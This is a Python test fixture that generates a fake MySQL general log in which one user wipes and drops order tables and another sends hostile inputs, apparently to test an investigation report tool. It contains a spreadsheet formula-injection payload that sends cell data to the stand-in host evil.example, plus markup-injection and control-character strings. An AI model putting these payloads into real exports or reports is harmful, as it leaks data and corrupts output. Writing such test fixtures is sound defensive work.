"""A small story for the case and report tests: bob wipes shop.orders, with hostile text around."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

from tests.investigations.logs import genlog

T0 = datetime(2026, 3, 4, 22, 15, tzinfo=UTC)
CULPRIT_SQL = "DELETE FROM orders WHERE created_at < '2026-01-01'"
# What a spreadsheet would run as a formula, sent as a statement (the server refuses it; the
# general log keeps it all the same).
FORMULA_SQL = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
HOSTILE_SQL = "SELECT '<b>bold</b> & </para>' , 'nul\x01byte', '\u202eevil'"


def story() -> bytes:
    t = [T0 + timedelta(seconds=s) for s in range(10)]
    return genlog(
        (t[0], 7, "Connect", "bob@10.0.0.9 on shop using TCP/IP"),
        (t[1], 7, "Query", "SELECT * FROM orders WHERE id = 1"),
        (t[2], 7, "Query", CULPRIT_SQL),
        (t[3], 8, "Connect", "alice@10.0.0.5 on shop using TCP/IP"),
        (t[4], 8, "Query", FORMULA_SQL),
        (t[5], 8, "Query", HOSTILE_SQL),
        (t[6], 7, "Query", "DROP TABLE order_archive"),
    )
